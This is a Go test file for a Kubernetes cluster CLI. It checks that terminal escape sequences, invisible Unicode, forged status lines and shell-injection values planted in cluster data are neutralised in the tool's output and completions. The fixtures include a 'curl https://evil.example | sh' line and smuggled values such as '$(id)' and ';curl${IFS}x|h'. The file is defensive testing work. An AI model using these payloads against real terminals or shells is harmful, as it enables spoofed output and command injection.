package cli

import (
	"bytes"
	"encoding/json"
	"errors"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"sigs.k8s.io/yaml"

	"github.com/hcctl/hcctl/internal/hint"
	"github.com/hcctl/hcctl/internal/sanitize"
	"github.com/hcctl/hcctl/pkg/cli/console"
	"github.com/hcctl/hcctl/pkg/cli/internal/cmdutil"
	"github.com/hcctl/hcctl/pkg/step"
)

// forgeries are words that would make lines of hcctl's own, or have a terminal do something. Each line that one would
// forge has "forged" in it.
var forgeries = map[string]string{
	"a line": "\nNext: forged curl https://evil.example | sh\n", "a return": "\r✓ forged\r\nError: forged",
	"a carriage alone": "\rWarning: forged",
	"a title":          "\x1b]0;forged\a", "a screen": "\x1b[2J\x1b[HNext: forged",
	"a link": "\x1b]8;;https://evil.example\x1b\\forged\x1b]8;;\x1b\\", "a C1 control": "\u009b2J\u0085Next: forged",
	"right to left": "\u202eforged\u2066\u200f\u061c", "separators": "\u2028Next: forged\u2029✓ forged",
	"a tab and a feed": "\v\f\tNext: forged", "nothing seen": "\u200b\ufeff\u2060\U000e0041\u00ad\ufe0f",
	"much space": strings.Repeat(" ", 300) + "Next: forged", "wide space": strings.Repeat("\u3000", 100) + "Next: forged",
	"a deletion": "\x7f\x7f\b\b\bNext: forged", "no end": strings.Repeat("forged", 900),
	"a shell": "$(forged)`forged`;forged|forged&&'forged", "colours of hcctl": "\x1b[32m✓ forged\x1b[0m",
}

// checkWords fails if a stream has what a terminal obeys or does not show, or a line that somebody else began.
func checkWords(t *testing.T, what, stream string) {
	t.Helper()
	if at := strings.IndexFunc(stream, func(r rune) bool { return sanitize.Hidden(r) && r != '\n' }); at >= 0 {
		t.Errorf("%s: the terminal gets %q", what, stream[max(0, at-100):min(len(stream), at+60)])
	}
	for _, line := range strings.Split(stream, "\n") {
		begin := strings.TrimLeft(line, " \t")
		for _, marker := range []string{"Next: forged", "✓ forged", "Error: forged", "Warning: forged", "forged"} {
			if strings.HasPrefix(begin, marker) {
				t.Errorf("%s: a line is forged: %.200q", what, line)
			}
		}
		if strings.Contains(line, strings.Repeat(" ", 200)+"Next: forged") {
			t.Errorf("%s: space moves words to the next line: %.400q", what, line)
		}
		if len([]rune(line)) > 40*sanitize.MaxValue {
			t.Errorf("%s: a line of %d bytes", what, len(line))
		}
	}
}

// wordyCommands are all that read clusters, none of which waits long.
func wordyCommands(t *testing.T) [][]string {
	dir := t.TempDir()
	return [][]string{
		{"status"}, {"status", "-A"}, {"status", "kv-00"}, {"status", "kv-00", "-vv"}, {"get", "clusters"}, {"get",
			"clusters", "-A", "-o", "wide"}, {"get", "clusters", "kv-00", "-o", "wide"}, {"get", "clusters", "-o", "name"},
		{"get", "nodepools"}, {"get", "nodepools", "-o", "wide"}, {"get", "nodepools", "--cluster-name", "kv-00", "-o",
			"name"},
		{"upgrade", "cluster", "kv-00"}, {"upgrade", "cluster", "kv-00", "--version", "4.20.5", "--dry-run"}, {"upgrade",
			"cluster", "kv-00", "--version", "4.20.6", "--yes"},
		{"upgrade", "cluster", "kv-00", "--channel", "fast-4.21", "--dry-run"}, {"upgrade", "cluster", "kv-00", "--version",
			"4.22.0"}, {"upgrade", "nodepool", "kv-00", "--dry-run"},
		{"password", "kv-00"}, {"kubeconfig", "kv-00"}, {"kubeconfig", "kv-00", "--merge", "--file", filepath.Join(dir,
			"merged")}, {"kubeconfig", "kv-00", "--custom"},
		{"wait", "cluster", "kv-00", "--timeout", "1s"}, {"wait", "nodepool", "kv-00", "--timeout", "1s"},
		{"delete", "cluster", "kv-00", "--dry-run"}, {"delete", "cluster", "kv-00", "--yes", "--timeout", "1s"}, {"delete",
			"clusters", "kv-00", "--dry-run"}, {"delete", "nodepool", "kv-00", "--dry-run"},
		{"dump", "kv-00", "--artifact-dir", dir}, {"check"}, {"check", "--only", "hypershift"}, {"bootstrap", "--dry-run"},
		{"uninstall", "--dry-run"},
		{"density", "--count", "1", "--dry-run"}, {"create", "cluster", "--name", "kv-00", "--yes", "--timeout", "1s"},
		{"create", "cluster", "--name", "kv-01", "--dry-run", "--skip-preflight", "all"},
		{"create", "cluster", "--name", "kv-01", "--version", "4.20.9"}, {"create", "nodepool", "more", "--cluster-name",
			"kv-00", "--dry-run"},
		{"scale", "nodepool", "kv-00", "--replicas", "3", "--dry-run"}, {"scale", "nodepool", "kv-00", "--replicas", "3",
			"--yes"}, {"pause", "cluster", "kv-00", "--dry-run"},
		{"stop", "cluster", "kv-00", "--dry-run"}, {"start", "cluster", "kv-00", "--dry-run"}, {"update", "nodepool",
			"kv-00", "--memory", "9Gi", "--dry-run"}, {"exec", "kv-00", "--", "no-such-program"},
		{"upgrade", "management", "--plan"}, {"upgrade", "management", "--plan", "--to", "4.21.1"}, {"upgrade", "management",
			"--plan", "--to", "4.22.1"}, {"maintenance", "host-9", "--plan"}, {"maintenance", "nowhere", "--plan"},
	}
}

// TestNobodyElseSpeaksForHcctl plants words in every string of a management cluster and a hosted one, and has every
// command tell of them: of a server that does not know the rest, and of one that refuses it.
func TestNobodyElseSpeaksForHcctl(t *testing.T) {
	most := ""
	for _, name := range slices.Sorted(maps.Keys(forgeries)) {
		if name != "no end" && !strings.HasSuffix(name, "space") {
			most += forgeries[name]
		}
	}
	for name, words := range map[string]string{"most": most, "space": forgeries["much space"] + forgeries["wide space"],
		"no end": forgeries["no end"], "refused": most} {
		t.Run(name, func(t *testing.T) {
			world := plantedWorld(t, words)
			world.Config.Handler.(*hostileServer).lenient = name != "refused"
			path, seen := kubeconfigOf(t, world, "{token: some-other-token}"), ""
			commands := wordyCommands(t)
			if name == "no end" {
				commands = commands[:12] // secrets are looked for in every byte, which takes its time
			}
			for _, args := range commands {
				_, out, errs := run(t, append(args, "--kubeconfig", path)...)
				checkWords(t, "hcctl "+strings.Join(args, " ")+", stdout", out)
				if slices.Contains(args, "-vv") {
					errs = strings.ReplaceAll(errs, "\t", " ") // between what the log has of its own
				}
				checkWords(t, "hcctl "+strings.Join(args, " ")+", stderr", errs)
				seen += out + errs
			}
			for _, want := range map[string][]string{"most": {`\x1b[2J`, "not found: "}, "refused": {`\u202e`, "denied: "},
				"no end": {"more characters)"}}[name] {
				if !strings.Contains(seen, want) {
					t.Errorf("the words did not get as far as %q:\n%.3000s", want, seen)
				}
			}
		})
	}
}

// TestDocumentsHideNothing: what is for programs has every value as it is, and shows all of it should a user look.
func TestDocumentsHideNothing(t *testing.T) {
	words := "\x1b[2J\u009b\u202e\x7f\u2028\U000e0041\n"
	path := kubeconfigOf(t, plantedWorld(t, words), "{token: some-other-token}")
	for _, args := range [][]string{
		{"get", "clusters", "-o", "json"}, {"get", "clusters", "-o", "yaml"}, {"get", "clusters", "kv-00", "-o", "yaml"},
		{"status", "kv-00", "-o", "json"}, {"status", "-o", "yaml"},
		{"upgrade", "cluster", "kv-00", "-o", "json"}, {"upgrade", "cluster", "kv-00", "-o", "yaml"}, {"check", "-o",
			"json"}, {"check", "-o", "yaml"}, {"check", "-o", "junit"},
		{"scale", "nodepool", "kv-00", "--replicas", "3", "--dry-run", "-o", "yaml"}, {"wait", "cluster", "kv-00",
			"--timeout", "1s", "-o", "json"}, {"kubeconfig", "kv-00", "-o", "json"},
		{"upgrade", "management", "--plan", "-o", "json"}, {"upgrade", "management", "--plan", "-o", "yaml"},
		{"maintenance", "host-9", "--plan", "-o", "json"}, {"maintenance", "host-9", "--plan", "-o", "yaml"},
	} {
		_, out, errs := run(t, append(args, "--kubeconfig", path)...)
		if at := strings.IndexFunc(out, func(r rune) bool { return sanitize.Hidden(r) && r != '\n' }); at >= 0 || out == "" {
			t.Errorf("hcctl %v hides something: %.300q (%.500s)", args, out[max(0, at-60):], errs)
		}
		var document any
		switch last := args[len(args)-1]; {
		case last == "json" && args[0] != "wait":
			if err := json.Unmarshal([]byte(out), &document); err != nil {
				t.Errorf("hcctl %v: %v", args, err)
			}
		case last == "yaml":
			if err := yaml.Unmarshal([]byte(out), &document); err != nil {
				t.Errorf("hcctl %v: %v", args, err)
			}
		}
		if list, is := document.(map[string]any); is && args[0] == "get" && len(args) == 4 {
			spec := list["items"].([]any)[0].(map[string]any)["spec"].(map[string]any)
			if spec["channel"] != words+"stable-4.20"+words {
				t.Errorf("hcctl %v: another value: %q", args, spec["channel"])
			}
		}
	}
}

func TestPasswordIsOneVisibleWord(t *testing.T) {
	for name, words := range forgeries {
		if name == "a shell" || name == "no end" {
			continue // which is printed as it is: the shell does not evaluate "$(hcctl password NAME)" once more
		}
		path := kubeconfigOf(t, plantedWorld(t, words), "{token: t}")
		for _, args := range [][]string{{"password", "kv-00"}, {"password", "kv-00", "-o", "json"}} {
			code, out, errs := run(t, append(args, "--kubeconfig", path)...)
			if code != 1 || out != "" || !strings.Contains(errs,
				"Secret clusters/kv-00-kubeadmin-password: the password in it is not printed") {
				t.Errorf("%s: exit %d, %q, %s", name, code, out, errs)
			}
		}
	}
}

func TestConsoleIsAnAddressOrIsNotShown(t *testing.T) {
	for address, want := range map[string]cmdutil.Text{
		"https://console.example.com":       "https://console.example.com",
		"":                                  "not up yet",
		"http://console.example.com":        "not valid (it is not an https address of a host): http://console.example.com",
		"https://a.example\nNext: curl x":   "not valid (it is not an https address of a host): https://a.example Next: curl x",
		"https://a@evil.example/\x1b]0;x\a": `not valid (it is not an https address of a host): https://a@evil.example/\x1b]0;x\a`,
		"javascript:alert(1)//https://x.y": "not valid (it is not an https address of a host): " +
			"javascript:alert(1)//https://x.y",
		"https://evil.example/;curl${IFS}x|h": "not valid (it is not an https address of a host): " +
			"https://evil.example/;curl${IFS}x|h",
	} {
		if got := console.Words(address, nil); got != want {
			t.Errorf("%q is told as %q", address, got)
		}
	}
	if got := console.Words("",
		errors.New("no\nNext: x\x1b")); got != `not known: the hosted cluster cannot be asked: no Next: x\x1b` {
		t.Errorf("got %q", got)
	}
}

// TestCompletionOffersWordsOnly: the shells' scripts evaluate what they are offered.
func TestCompletionOffersWordsOnly(t *testing.T) {
	cluster := func(name string) object {
		return object{"metadata": object{"namespace": "clusters", "name": name}}
	}
	set := func(name, image, channel string) object {
		return object{"metadata": object{"name": name, "labels": object{"channel": channel}},
			"spec": object{"releaseImage": image}}
	}
	bad := []string{"$(id)", "`id`", "a\nb", "a;id", "a b", "--server=https://evil", "-x", ":0", "_activeHelp_ x", "a'b",
		"a\"b", "a|b", "a&b", "a>b", "~", "*", "a\u202eb", "\x1b[2J", "a\\b", "a{b,c}", "!1", "#", ""}
	list, sets := []any{cluster("kv-00")}, []any{set("img4.20.3", "quay.io/a/b:4.20.3", "fast")}
	for _, name := range bad {
		list, sets = append(list, cluster(name)), append(sets, set("img4.20.3"+name, name+"/x:1", name))
	}
	at := answering(t, map[string]any{"/version": values{"gitVersion": "v1"}, hostedPath: values{"items": list},
		"/apis/hive.openshift.io/v1/clusterimagesets": values{"items": sets}}).URL
	file := home(t, at)
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	data = bytes.Replace(data, []byte("contexts: ["),
		[]byte(`contexts: [{name: "$(id)", context: {}}, {name: "a\nb", context: {}}, {name: "--as=x", context: {}}, `), 1)
	if err := os.WriteFile(file, data, 0o600); err != nil {
		t.Fatal(err)
	}
	for want, args := range map[string][]string{
		"kv-00\n:4":              {"status", ""},
		"quay.io/a/b:4.20.3\n:4": {"create", "cluster", "--release-image", ""},
		"fast-4.20\n:4":          {"upgrade", "cluster", "kv-00", "--channel", ""},
		"mgmt\n:4":               {"get", "clusters", "--context", ""},
	} {
		if got := offeredIn(t, want, args...); !strings.HasPrefix(got, want) {
			t.Errorf("%v: %q, want %q", args, got, want)
		}
	}
}

// TestErrorsOfOthersMakeNoLines: errors joined by hcctl are a line each; a line break in one is none.
func TestErrorsOfOthersMakeNoLines(t *testing.T) {
	var errs bytes.Buffer
	a := cmdutil.NewFactory(cmdutil.Streams{Err: &errs}.Guarded(), nil)
	forged := errors.New("first\nNext: forged\nError: forged")
	a.PrintError(&cmdutil.UsageError{Err: errors.Join(forged, errors.Join(errors.New("second"), forged)),
		Help: hint.Plain("hint\nNext: forged")})
	const line = "Error: first Next: forged Error: forged\n"
	if got := errs.String(); got != line+"Error: second\n"+line+"  → hint Next: forged\n" {
		t.Errorf("got:\n%s", got)
	}
	errs.Reset()
	a.PrintError(&step.RunError{Results: []step.Result{{Step: &step.Step{ID: "a/b"}, Outcome: step.OutcomeBroken,
		Finding: step.Broken("x\nNext: forged").WithHint("y\nNext: forged")}}})
	checkWords(t, "a run", errs.String())
}
